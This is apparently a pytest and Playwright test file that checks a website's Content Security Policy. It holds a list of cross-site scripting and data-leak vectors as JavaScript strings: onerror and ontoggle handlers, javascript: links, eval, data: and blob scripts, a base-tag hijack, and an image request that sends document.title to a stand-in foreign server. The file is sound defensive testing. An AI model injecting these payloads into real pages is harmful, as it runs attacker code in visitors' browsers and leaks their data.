"""The content security policy, tried: what gets into a page neither runs nor tells.

Each attack is made by a script of the page's own, as one would be that markup from
elsewhere had become part of. A server on another port counts what reaches it.
"""

import re
from http.server import BaseHTTPRequestHandler

import pytest

from hosting import listening

PAGES = ["gallery/filters/040_sobel.html", "search.html"]

ADD = "const it = document.createElement('{tag}'); {set}; document.body.append(it);"
HTML = "document.querySelector('article').insertAdjacentHTML('beforeend', `{html}`);"

ATTACKS = {
    "inline script": ADD.format(tag="script", set="it.textContent = 'broken = 1'"),
    "inline handler": HTML.format(html="<img src=x onerror='broken = 1'>"),
    "handler that needs no error": HTML.format(
        html="<details open ontoggle='broken = 1'>d</details>"
    ),
    "javascript: link": HTML.format(html="<a id=a href='javascript:broken = 1'>a</a>")
    + "document.getElementById('a').click();",
    "eval": "eval('broken = 1');",
    "Function": "new Function('broken = 1')();",
    "timer of text": "setTimeout('broken = 1');",
    "script from elsewhere": ADD.format(tag="script", set="it.src = there + 'a.js'"),
    "script of data": ADD.format(tag="script", set="it.src = 'data:,broken = 1'"),
    "module": "import(there + 'a.mjs').catch(() => 0);",
    "worker of a blob": "new Worker(URL.createObjectURL(new Blob(['fetch(1)'])));",
    "picture": "new Image().src = there + 'a.png?' + document.title;",
    "style": HTML.format(html="<p style='background: url(${there}a)'>p</p>"),
    "style sheet": ADD.format(
        tag="link", set="it.rel = 'stylesheet', it.href = there + 'a.css'"
    ),
    "inline style": ADD.format(
        tag="style", set="it.textContent = `body { background: url(${there}b) }`"
    ),
    "font": "new FontFace('f', `url(${there}a.woff)`).load().catch(() => 0);",
    "fetch": "fetch(there).catch(() => 0);",
    "beacon": "navigator.sendBeacon(there, 'x');",
    "socket": "new WebSocket(there.replace('http', 'ws'));",
    "frame": ADD.format(tag="iframe", set="it.src = there"),
    "frame of markup": ADD.format(
        tag="iframe",
        set="it.onload = () => rules.push('held inside'), "
        "it.srcdoc = '<script>parent.broken = 1</script>'",
    ),
    "object": ADD.format(tag="object", set="it.data = there + 'a.pdf'"),
    "film": ADD.format(tag="video", set="it.src = there + 'a.mp4'"),
    "base": ADD.format(tag="base", set="it.href = there")
    + "new Image().src = '_static/favicon.png';",
    "form": HTML.format(html="<form id=f action='${there}'></form>")
    + "document.getElementById('f').submit();",
}


@pytest.fixture(scope="module")
def elsewhere():
    """Serve another origin; return its address and what it was asked for."""
    asked = []

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"broken = 1")

        def do_POST(self):
            self.do_GET()

        def log_message(self, *arguments):
            pass

    with listening(Elsewhere) as there:
        yield there, asked


def attack(page, code, there):
    """Let the page itself run an attack, and list the rules of the policy it broke.

    Not in the evaluation, which a debugger frees from the policy.
    """
    page.evaluate(
        f"""(there) => {{
          window.rules = [];
          window.onsecuritypolicyviolation =
            ({{ effectiveDirective }}) => rules.push(effectiveDirective);
          setTimeout(() => {{
            try {{ {code} }} catch (error) {{ rules.push(error.name); }}
          }});
        }}""",
        there,
    )


def wait(page, happened, what):
    """Wait for up to a minute; Playwright's own waiting evaluates text in the page."""
    for _ in range(3000):
        if happened():
            return
        page.wait_for_timeout(20)
    pytest.fail(what)


@pytest.mark.parametrize("path", PAGES)
def test_nothing_that_gets_into_a_page_runs_or_tells(
    open_page, address, elsewhere, path
):
    there, asked = elsewhere
    page = open_page(address + path)
    for name, code in ATTACKS.items():
        attack(page, code, there)
        wait(page, lambda: page.evaluate("rules.length"), name)
        page.wait_for_timeout(60)  # what else it would do is not put down to the next
        assert page.evaluate("window.broken") is None
    open_page.said.clear()  # Chromium tells the console of each attack
    assert page.url == address + path
    assert asked == []


def test_the_attacks_succeed_without_a_policy(open_page, tmp_path, elsewhere):
    """Else the test above would prove nothing."""
    there, asked = elsewhere
    path = tmp_path / "page.html"
    path.write_text("<!doctype html><title>t</title><body><article></article>")
    for name in sorted(ATTACKS.keys() - {"base", "form", "module", "worker of a blob"}):
        page = open_page(path.as_uri())
        own = re.sub(r"\W", "-", name)

        def succeeded(page=page, own=own):
            ran = page.evaluate("window.broken") is not None
            return ran or any(path.startswith(f"/{own}/") for path in asked)

        attack(page, ATTACKS[name], f"{there}{own}/")
        wait(page, succeeded, name)
    open_page.said.clear()
    asked.clear()


@pytest.mark.parametrize("page_name", ["gallery/filters/040_sobel.html"])
def test_markup_in_an_address_is_refused_as_text(open_page, address, page_name):
    markup = "<img src=x onerror=broken=1>"
    for setting in ("kernel", "at", "picture", "view", "unknown"):
        page = open_page(f"{address}{page_name}#kernel-playground?{setting}={markup}")
        figure = page.locator("cnn-kernel-playground")
        figure.evaluate("figure => figure.ready.then(() => true)")
        assert page.evaluate("window.broken") is None
        inside = "figure => figure.shadowRoot.querySelectorAll('[onerror]').length"
        assert figure.evaluate(inside) == 0


# The figure of a kind that a page has, as soon as it can be used.
ALIVE = """((figure) => (figure.scrollIntoView(), figure.ready.then(() => true)))
    (document.querySelector("{tag}"))"""


@pytest.mark.parametrize("way", ["file", "http"])
def test_pages_and_their_figures_are_quiet_in_three_engines(engine, site, request, way):
    """The search, and a page for each kind of live figure."""
    start = f"{site.as_uri()}/" if way == "file" else request.getfixturevalue("address")
    shown = {
        tag: path
        for path in site.rglob("*.html")
        for tag in re.findall("<(cnn-[a-z-]+)", path.read_text("utf-8"))
    }
    assert len(shown) == 7
    for path in {site / "search.html", *shown.values()}:
        engine.open(start + path.relative_to(site).as_posix())
        for tag in (tag for tag in shown if shown[tag] == path):
            assert engine.evaluate(ALIVE.format(tag=tag))
        assert engine.said == [], path
